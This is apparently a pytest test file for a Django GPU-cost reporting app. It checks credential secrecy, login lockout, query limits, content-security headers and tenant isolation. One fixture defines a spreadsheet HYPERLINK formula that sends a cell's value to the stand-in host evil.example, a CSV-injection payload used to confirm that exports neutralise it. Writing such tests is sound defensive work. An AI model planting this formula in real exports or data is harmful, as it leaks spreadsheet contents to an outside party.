"""Multi-tenant security through the real HTTP stack (issue 11): nothing leaks, nothing is forged, nothing
exhausts the server."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group, User
from django.test import Client
from rest_framework.test import APIClient

from apps.accounts.selectors import FINANCE_GROUP
from apps.accounts.services import create_api_token
from apps.common.csvfile import safe_cell
from apps.inventory.models import Cluster, Team
from apps.inventory.services import record_teams
from apps.usage.models import UsageHour
from apps.usage.services import rollup_day

SECRET = "S3cretPromPass"
DAY = datetime(2026, 11, 23, tzinfo=UTC)
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture
def world(db):
    """A cluster whose Prometheus needs a password, one team's hours, and one user of each kind."""
    cluster = Cluster.objects.create(name="prod", prometheus_url=f"https://promuser:{SECRET}@prometheus.example:9090")
    for team in ("vision", HOSTILE):
        UsageHour.objects.create(cluster=cluster, hour=DAY, team=team, namespace=team, node_group="g",
                                 gpu_model="NVIDIA-H100-80GB-HBM3", allocated_gpu_hours=2, cost=Decimal("8"))
    rollup_day(cluster, DAY.date())
    record_teams(cluster, ["vision"], DAY)
    users = {
        "member": User.objects.create_user("member", password="pw-member-123456"),
        "nobody": User.objects.create_user("nobody", password="pw-nobody-123456"),
        "finance": User.objects.create_user("finance", password="pw-finance-123456"),
        "staff": User.objects.create_user("staff", password="pw-staff-123456", is_staff=True, is_superuser=True),
    }
    Team.objects.get(name="vision").members.add(users["member"])
    users["finance"].groups.add(Group.objects.get_or_create(name=FINANCE_GROUP)[0])
    return cluster, users


def test_credentials_are_encrypted_at_rest_and_never_in_a_url(world):
    cluster, _ = world
    stored = Cluster.objects.values("prometheus_url", "prometheus_auth_encrypted").get()
    assert SECRET not in str(stored) and "promuser" not in str(stored)
    assert stored["prometheus_auth_encrypted"].startswith("fernet:")
    assert Cluster.objects.get().prometheus_auth == f"promuser:{SECRET}"  # the collector still gets it


def test_no_page_or_api_answer_contains_a_cluster_credential(world):
    cluster, users = world
    pages = ["/", "/capacity/", "/queues/", "/data-status/", "/healthz", "/api/v1/clusters/", "/api/v1/clusters/prod/",
             "/api/v1/teams/", "/api/v1/usage/?start=2026-11-23&end=2026-11-24&group_by=cluster",
             "/api/v1/schema/", "/admin/", f"/admin/inventory/cluster/{cluster.pk}/change/",
             "/admin/inventory/cluster/"]
    for kind in (None, *users):
        client = Client()
        if kind:
            client.force_login(users[kind])
        for page in pages:
            body = client.get(page).content.decode(errors="replace")
            assert SECRET not in body and "promuser" not in body, (kind, page)


def test_sign_in_is_locked_after_repeated_failures_on_the_login_page_and_the_admin(world):
    for url in ("/accounts/login/", "/admin/login/"):
        client = Client()
        for _ in range(5):
            client.post(url, {"username": "member", "password": "wrong"})
        # The right password no longer works: the account is locked out for a while.
        response = client.post(url, {"username": "member", "password": "pw-member-123456"})
        assert response.status_code == 429, url
        assert "_auth_user_id" not in client.session
        from django.core.management import call_command

        call_command("axes_reset_username", "member")
    assert Client().post("/accounts/login/", {"username": "member", "password": "pw-member-123456"}).status_code == 302


def test_a_400_day_hour_level_request_is_refused_quickly_with_how_to_narrow_it(world):
    _, users = world
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {create_api_token(users['finance'], 30)}")
    started = time.monotonic()
    response = client.get("/api/v1/usage/", {"start": "2025-10-01", "end": "2026-11-05", "group_by": "team,hour"})
    assert time.monotonic() - started < 2
    assert response.status_code == 400
    assert "at most 31 days" in response.json()["errors"]["group_by"][0]


def test_too_many_rows_is_a_400_naming_group_by(world, settings):
    _, users = world
    settings.GPUFINOPS_API_MAX_ROWS = 1
    client = APIClient()
    client.force_authenticate(users["finance"])
    response = client.get("/api/v1/usage/", {"start": "2026-11-23", "end": "2026-11-24", "group_by": "team"})
    assert response.status_code == 400 and "More than 1 rows" in response.json()["errors"]["group_by"][0]


def test_members_get_a_shorter_history_range(world):
    _, users = world
    member, staff = APIClient(), APIClient()
    member.force_authenticate(users["member"])
    staff.force_authenticate(users["staff"])
    long = {"start": "2026-09-01", "end": "2026-11-01"}  # 61 days
    assert member.get("/api/v1/fragmentation/", long).status_code == 400
    assert staff.get("/api/v1/fragmentation/", long).status_code == 200
    assert staff.get("/api/v1/fragmentation/", {"start": "2025-11-01", "end": "2026-11-01"}).status_code == 400


def test_the_answer_cache_keeps_no_oversized_answers(world, settings):
    from django.core.cache import cache

    _, users = world
    settings.GPUFINOPS_API_CACHE_MAX_BYTES = 10
    client = APIClient()
    client.force_authenticate(users["finance"])
    assert client.get("/api/v1/usage/", {"start": "2026-11-23", "end": "2026-11-24"}).status_code == 200
    assert not [k for k in cache._cache if "usage_report" in k]  # locmem's store: nothing was kept


def test_csv_cells_that_would_be_formulas_are_neutralised(world):
    _, users = world
    client = APIClient()
    client.force_authenticate(users["finance"])
    body = client.get("/api/v1/usage/", {"start": "2026-11-23", "end": "2026-11-24", "group_by": "team,namespace",
                                         "format": "csv"}).content.decode()
    teams = [row["team"] for row in csv.DictReader(io.StringIO(body))]
    assert "'" + HOSTILE in teams and HOSTILE not in teams
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert str(safe_cell(value)).startswith("'")
    assert safe_cell(-3.5) == -3.5 and safe_cell(Decimal("-1.25")) == Decimal("-1.25")  # numbers stay numbers


def test_pages_send_a_content_security_policy_without_inline_scripts(world):
    _, users = world
    client = Client()
    client.force_login(users["member"])
    response = client.get("/")
    policy = response["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    body = response.content.decode()
    assert "<script>" not in body  # every script is a file (or a JSON data block)


def test_health_says_status_only_to_anonymous_visitors(world):
    body = Client().get("/healthz").json()
    assert set(body) == {"status"}


def test_a_team_member_sees_only_clusters_their_teams_appear_in(world):
    cluster, users = world
    other = Cluster.objects.create(name="other")
    record_teams(other, ["nlp"], DAY)
    member = APIClient()
    member.force_authenticate(users["member"])
    assert [c["name"] for c in member.get("/api/v1/clusters/").json()["results"]] == ["prod"]
    assert member.get("/api/v1/clusters/other/").status_code == 404
    nobody = APIClient()
    nobody.force_authenticate(users["nobody"])
    assert nobody.get("/api/v1/clusters/").json()["results"] == []
    assert cluster.name == "prod"
